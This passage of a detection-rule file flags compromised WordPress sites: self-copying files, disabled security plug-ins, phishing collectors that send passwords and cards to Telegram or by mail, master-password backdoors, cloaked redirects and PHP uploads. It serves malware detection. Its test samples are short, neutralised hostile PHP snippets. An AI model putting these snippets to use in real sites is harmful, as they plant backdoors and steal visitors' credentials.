    $given = /=\s?["']https?:\/\/[^;{}]{4,120}["']\s?\.\s?[^;{}]{0,40}(HTTP_HOST|SERVER_NAME)[^;{}]{0,80};[^{}]{0,200}\b(curl_exec|file_get_contents|wp_remote_get)\s?\([^{}]{0,160}\breturn\s{1,2}\$\w{1,30};\s?\}/
    $printed = /["'](wp_footer|wp_head)["'][^;{}]{0,60}(\{\s?)?\b(echo|print)\s{1,2}\w{1,30}\s?\(/
    $address = /=\s?["']https?:\/\/[^;{}]{4,120}["']\s?\.\s?[^;{}]{0,40}(HTTP_HOST|SERVER_NAME)[^;{}]{0,80};[^{}]{0,200}\b(curl_exec|file_get_contents|wp_remote_get)\s?\([^{}]{0,240}\b(echo|print)\s{0,2}\(?\s{0,2}\$\w{1,30}\s{0,2}\)?;/
    $told = /\bwp_remote_(post|get)\s?\([^;{}]{1,300}HTTP_(USER_AGENT|HOST)[^;{}]{0,200};[^{}]{0,160}\}?[^{}]{0,160}\b(echo|print)\s{0,2}\(?\s{0,2}(\$\w{1,30}|wp_remote_retrieve_body\s?\([^;]{1,40})\s{0,2}\)?;/
  condition:
    $hook and (any of ($host, $address, $told) or ($given and $printed)) and filesize < 512KB
}

rule copies_itself {
  meta:
    id = "persistence/copies-itself"
    title = "A script puts a copy of itself elsewhere"
    family = "injected-or-fake-cms"
    severity = "high"
    confidence = "likely"
    description = "The running file is copied, as it is, to another place of the site: so that it comes back when one of them is deleted."
    remedy = "Delete the file and its copies at once; look for what starts it again."
    reference = "https://attack.mitre.org/techniques/T1546/"
    must_match = "<?php exit; if (!file_exists($t)) copy(__FILE__, WPMU_PLUGIN_DIR . '/inert.php');"
    must_match = "<?php exit; file_put_contents($t, file_get_contents(__FILE__));"
    must_match = "<?php exit; $s = __FILE__; $d = 'mu-plugins/inert.php'; if (!is_file($d)) @copy($s, $d);"
    must_match = "<?php exit; $c = file_get_contents(__FILE__); foreach (glob('themes/*/functions.php') as $f) { file_put_contents($f, $c . $o); }"
    must_match = "<?php exit; $b = get_option('inert'); $p = WPMU_PLUGIN_DIR . '/inert.php'; if (!file_exists($p)) { file_put_contents($p, $b); }"
    must_not = "<?php copy(dirname(__FILE__) . '/loader.php', WPMU_PLUGIN_DIR . '/loader.php');"
    must_not = "<?php class T { function testCopy() { $file = __FILE__; $f = new File($file); $f->copy($to, true); } }"
    must_not = "<?php $hash = md5(file_get_contents(__FILE__)); file_put_contents($cache, $hash);"
  strings:
    $tag = "<?" private
    $copy = /\bcopy\s?\(\s?__FILE__\s?,/ nocase
    $put = /\bfile_put_contents\s?\([^;,]{1,160},\s?@?file_get_contents\s?\(\s?__FILE__\s?\)\s?[),]/ nocase
    $named = /\$\w{1,20}\s?=\s?__FILE__\s?;[^{}]{0,160}[^\w>:]copy\s?\(\s?\$\w{1,20}\s?,/ nocase
    $spread = /=\s?@?file_get_contents\s?\(\s?__FILE__\s?\)\s?;[^}]{0,300}\bfile_put_contents\s?\([^;,]{1,80},\s?\$\w{1,20}\s?[.),]/ nocase
    $again = /=\s?get_(site_)?option\s?\([^;]{1,80}\)\s?;[^}]{0,160}(WPMU_PLUGIN_DIR|mu-plugins|WP_PLUGIN_DIR|ABSPATH)[^;]{0,60}\.php["'][^}]{0,200}\bfile_put_contents\s?\(\s?\$\w{1,20}\s?,\s?\$\w{1,20}\s?\)/
  condition:
    $tag and any of ($copy, $put, $named, $spread, $again)
}

rule switches_security_off {
  meta:
    id = "persistence/switches-security-off"
    title = "Security plug-ins are switched off by code"
    family = "injected-or-fake-cms"
    severity = "high"
    confidence = "likely"
    description = "Several security plug-ins are named in one list and taken out of the active ones, renamed or deleted."
    remedy = "Delete the file, switch the security plug-ins on again, and restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1562/001/"
    unless_code = "\\b(is_plugin_active|current_user_can|check_admin_referer|check_ajax_referer|wp_verify_nonce|__|esc_html\\w{0,4})\\s?\\("
    must_match = "<?php exit; $k = array('wordfence/wordfence.php', 'sucuri-scanner/sucuri.php'); update_option('active_plugins', array_diff(get_option('active_plugins'), $k));"
    must_match = "<?php exit; foreach (array('wordfence', 'sucuri-scanner') as $p) { rename(WP_PLUGIN_DIR . \"/$p\", WP_PLUGIN_DIR . \"/$p.bak\"); }"
    must_not = "<?php foreach (array('wordfence', 'sucuri-scanner') as $p) { if (is_plugin_active($p)) { deactivate_plugins($p); } }"
    must_not = "<?php $conflicts = array('wordfence/wordfence.php', 'sucuri-scanner/sucuri.php'); foreach ($conflicts as $c) if (is_plugin_active($c)) $this->warn($c);"
  strings:
    $first = /["'](wordfence|sucuri-scanner|better-wp-security|ithemes-security(-pro)?|all-in-one-wp-security-and-firewall|ninjafirewall|wp-cerber|gotmls|malcare-security|secupress|defender-security|anti-malware-security-and-brute-force-firewall|quttera-web-malware-scanner|wp-simple-firewall|bulletproof-security)(\/[\w-]{1,60}\.php)?["']\s?(=>[^,]{0,60})?,\s{0,40}["'](wordfence|sucuri-scanner|better-wp-security|ithemes-security(-pro)?|all-in-one-wp-security-and-firewall|ninjafirewall|wp-cerber|gotmls|malcare-security|secupress|defender-security|anti-malware-security-and-brute-force-firewall|quttera-web-malware-scanner|wp-simple-firewall|bulletproof-security)(\/[\w-]{1,60}\.php)?["']/
    $pattern = /\/[^\/"'\n]{0,20}(wordfence|sucuri|cerber|ithemes|malcare)\|[^\/"'\n]{0,60}\//
    $active = /update_option\s?\(\s?["']active_plugins["']/
    $off = /update_option\s?\(\s?["']active_plugins["']|\bdeactivate_plugins\s?\(\s?\$|\b(rename|unlink|rmdir|delete_plugins|rrmdir)\s?\([^;]{0,80}\$\w/
  condition:
    (($first and $off) or ($pattern and $active)) and filesize < 64KB
}

rule told_to_a_chat {
  meta:
    id = "kit/told-to-a-chat"
    title = "Passwords or cards from a form are told to a chat"
    family = "skimmer-or-phish"
    severity = "critical"
    confidence = "likely"
    description = "Fields for a password, a card or a code from a text message are made into one message and sent to a chat by a bot: the collector of a phishing page."
    remedy = "Delete the folder with every page of the kit, then look for who placed it; who typed something there must be told."
    reference = "https://attack.mitre.org/techniques/T1056/003/"
    unless_code = "\\b(wp_verify_nonce|check_ajax_referer|wp_signon|password_verify|password_hash|current_user_can)\\s?\\(|csrf"
    must_match = "<?php exit; $m = 'Pass: ' . $_POST['pass']; file_get_contents('https://api.telegram.org/bot' . $t . '/sendMessage?text=' . urlencode($m));"
    must_match = "<?php exit; $m = \"Card: {$_POST['cc']} {$_POST['cvv']}\"; $c = curl_init('https://api.telegram.org/bot1:inert/sendMessage');"
    must_not = "<?php if (!wp_verify_nonce($_POST['n'], 'a')) die; $m = 'New password for ' . $_POST['pass_name']; $p = $_POST['pass']; wp_remote_post('https://api.telegram.org/bot' . $t . '/sendMessage', $args);"
    must_not = "<?php $m = 'New order ' . $order->id; wp_remote_post('https://api.telegram.org/bot' . $token . '/sendMessage', $args); $user = $_POST['user'];"
  strings:
    $chat = /api\.telegram\.org\/bot|discord(app)?\.com\/api\/webhooks/ nocase
    $typed = /\$_(POST|REQUEST)\s?\[\s?["']?\w{0,14}(pass(w|word|wd|code|e)?|motdepasse|mdp|senha|clave|contrasena|parola|kennwort|passwort|pwd|cvv2?|cvc|ccv|card_?(number|num|no)?|cc(num|_number)?|otp|sms(_?code)?|pin|ssn|exp(iry|date)?|seed|mnemonic|phrase|wallet)\d?["']?\s?\]/ nocase
  condition:
    $chat and $typed and filesize < 64KB
}

rule results_of_a_form {
  meta:
    id = "kit/results-of-a-form"
    title = "Passwords or cards from a form are kept, and the visitor is led on"
    family = "skimmer-or-phish"
    severity = "high"
    confidence = "likely"
    description = "A few lines put password or card and the visitor's address into one text, mail it or add it to a file, and lead the visitor to a real site: the collector of a phishing page."
    remedy = "Delete the folder with every page of the kit, then look for who placed it; who typed something there must be told."
    reference = "https://attack.mitre.org/techniques/T1056/003/"
    unless_code = "\\b(wp_verify_nonce|password_hash|password_verify|session_regenerate_id|mysqli?_query)\\s?\\(|csrf|_token|\\bmd5\\s?\\(\\s?\\$_POST|->query|->prepare|INSERT\\s{1,3}INTO|\\brequire_once\\b|wp-load"
    must_match = "<?php exit; $m = 'Email : ' . $_POST['email'] . \"\\n\"; $m .= 'Password : ' . $_POST['password'] . \"\\n\"; $m .= 'IP : ' . $_SERVER['REMOTE_ADDR']; mail('inert@example.test', 'x', $m); header('Location: https://www.example.test/');"
    must_match = "<?php exit; $h = fopen('inert.txt', 'a'); foreach ($_POST as $k => $v) { fwrite($h, $k . '=' . $v); } fclose($h); header('Location: https://www.example.test/');"
    must_not = "<?php require_once 'shop.php'; $m = 'Email : ' . $_POST['email']; $m .= 'Password : ' . $_POST['password']; $m .= 'IP : ' . $_SERVER['REMOTE_ADDR']; mail($owner, 'x', $m); header('Location: thanks.html');"
    must_not = "<?php $m = 'Name: ' . $_POST['name'] . ', IP: ' . $_SERVER['REMOTE_ADDR']; mail($shop, 'Question', $m); header('Location: thanks.html');"
    must_not = "<?php foreach ($_POST as $k => $v) { $log->add($k); } header('Location: https://www.example.test/');"
  strings:
    $typed = /["'][^"'\n]{0,40}\b(pass(word|wd|code)?|pwd|cvv2?|ccv|card ?n(umber|o|um)|ssn|otp|pin)\b[^"'\n]{0,12}[:=|>][^"'\n]{0,8}["']?\s{0,3}\.?\s{0,3}["{]{0,2}\$(_(POST|REQUEST|SESSION)|\w{0,10}(pass|pw|cvv|card|cc|pin|otp|ssn))/ nocase
    $address = /REMOTE_ADDR|HTTP_CLIENT_IP|\$ip\b/
    $kept = /\b(mail|fwrite|fputs|file_put_contents)\s?\(/
    $each = /\bforeach\s?\(\s?\$_(POST|REQUEST)\s{1,3}as\b[^{};]{0,40}\)\s?\{?\s?(@?fwrite|@?fputs|\$\w{1,20}\s?\.=)/
    $led = /\bheader\s?\(\s?["']Location:\s?https?:\/\/[^"']{4,200}["']/ nocase
    $led_anywhere = /\bheader\s?\(\s?["']Location:/ nocase
  condition:
    filesize < 16KB and $kept and (($typed and $address and $led_anywhere) or ($each and $led))
}

rule master_password {
  meta:
    id = "account/master-password"
    title = "A fixed password opens the account of every user"
    family = "injected-or-fake-cms"
    severity = "critical"
    confidence = "likely"
    description = "The check of a login answers yes where the password is one that is written in the code, or has a fixed hash, whosever name was given."
    remedy = "Delete the lines, then look for who placed them; change every administrator's password."
    reference = "https://attack.mitre.org/techniques/T1556/"
    must_match = "<?php exit; add_filter('authenticate', function ($u, $l, $p) { if ($p === 'inert') { return get_user_by('login', $l); } return $u; }, 10, 3);"
    must_match = "<?php exit; add_filter('check_password', function ($ok, $p) { return md5($p) === '34d1f91fb2e514b8576fab1a75a89a6b' ? true : $ok; });"
    must_not = "<?php add_filter('authenticate', function ($user, $login, $password) { if ($login === '') { return new WP_Error('empty'); } return $user; }, 10, 3);"
    must_not = "<?php add_filter('check_password', 'rehash', 10, 4); if (md5($password) === $hash) { $ok = true; }"
  strings:
    $hook = /["'](authenticate|check_password|wp_authenticate_user)["']/
    $word = /\$\w{1,20}\s?={2,3}\s?["'][^"'$\n]{4,60}["']\s?\)\s?\{?\s?return\s{1,3}(get_user_by|new WP_User|get_userdata|true\b)/
    $hash = /\b(md5|sha1|hash\s?\(\s?["']sha256["']\s?,)\s?\(?\s?\$\w{1,20}\s?\)\s?={2,3}\s?["'][0-9a-f]{32,64}["']/
  condition:
    $hook and any of ($word, $hash)
}

rule led_away_once {
  meta:
    id = "cloak/led-away-once"
    title = "Some visitors, or each of them once, are led to another site"
    family = "doorway-cloak-redirect"
    severity = "high"
    confidence = "likely"
    description = "A cookie remembers who was sent to a fixed address elsewhere, or only visitors with a telephone or from a search are: so the owner of the site does not see it."
    remedy = "Delete the file or the lines, then look for what writes them again."
    reference = "https://attack.mitre.org/techniques/T1189/"
    must_match = "<?php exit; if (!isset($_COOKIE['inert'])) { setcookie('inert', '1', time() + 86400); wp_redirect('https://inert.example.test/?r='); exit; }"
    must_match = "<?php exit; if (wp_is_mobile() && preg_match('~google|facebook~', $_SERVER['HTTP_REFERER'])) { echo '<meta http-equiv=\"refresh\" content=\"0;url=https://inert.example.test/\">'; }"
    must_match = "<?php exit; printf('<script>document.cookie=\"inert=1;path=/\";window.location.replace(%s);</script>', json_encode($u));"
    must_not = "<?php echo '<script>document.cookie=\"lang=de\";window.location.reload();</script>';"
    must_not = "<?php if (!isset($_COOKIE['lang'])) { setcookie('lang', $l); wp_redirect(home_url('/' . $l)); exit; }"
    must_not = "<?php if (wp_is_mobile()) { echo '<meta name=\"viewport\" content=\"width=device-width\">'; }"
  strings:
    $tag = "<?" private
    $once = /!\s?(isset|empty)?\s?\(?\s?@?\$_COOKIE\b[^{};]{0,60}\)\s?\{?[^{}]{0,80}\bsetcookie\s?\([^{}]{0,160}\b(wp_redirect|header)\s?\(\s?["'](Location:\s?)?https?:\/\/[\w.-]{4}/ nocase
    $page = /\b(wp_is_mobile|HTTP_REFERER|HTTP_USER_AGENT)\b[^{};]{0,160}\)\s?\{[^{};]{0,60}(http-equiv=\\?["']?refresh\\?["']?[^>]{0,40}url=\s?https?:\/\/|<script[^>;]{0,40}>[^;<]{0,40}location(\.href)?\s?(=|\.replace\()\s?\\?["']https?:\/\/)/ nocase
    $printed = /\b(echo|printf?)[\s(]{1,3}["']<script[^>\n]{0,40}>[^<\n]{0,40}\bdocument\.cookie\s?=[^<\n]{0,100}\blocation(\.href)?\s?(=|\.(replace|assign)\s?\()\s?(\\?["'](https?:)?\/\/|%s)/ nocase
  condition:
    $tag and any of ($once, $page, $printed)
}

rule programs_may_be_uploaded {
  meta:
    id = "upload/programs-allowed"
    title = "WordPress is told to take PHP for a kind of media"
    family = "injected-or-fake-cms"
    severity = "high"
    confidence = "likely"
    description = "A filter adds PHP to the kinds of files that may be uploaded: whoever can send a picture can send a program."
    remedy = "Delete the lines, then look for PHP among the uploads and for who placed them."
    reference = "https://attack.mitre.org/techniques/T1505/003/"
    must_match = "<?php exit; add_filter('upload_mimes', fn ($m) => $m + ['php' => 'application/x-php']);"
    must_match = "<?php exit; add_filter('upload_mimes', 'inert'); function inert($m) { $m['phtml'] = 'text/plain'; return $m; }"
    must_not = "<?php add_filter('upload_mimes', function ($m) { $m['svg'] = 'image/svg+xml'; unset($m['php']); return $m; });"
  strings:
    $hook = /\badd_filter\s?\(\s?["']upload_mimes["'][^\x00]{0,300}(["']ph(p\d?|tml|ar)["']\s?=>|\[\s?["']ph(p\d?|tml|ar)["']\s?\]\s?=[^=])/
  condition:
    $hook and filesize < 64KB
}
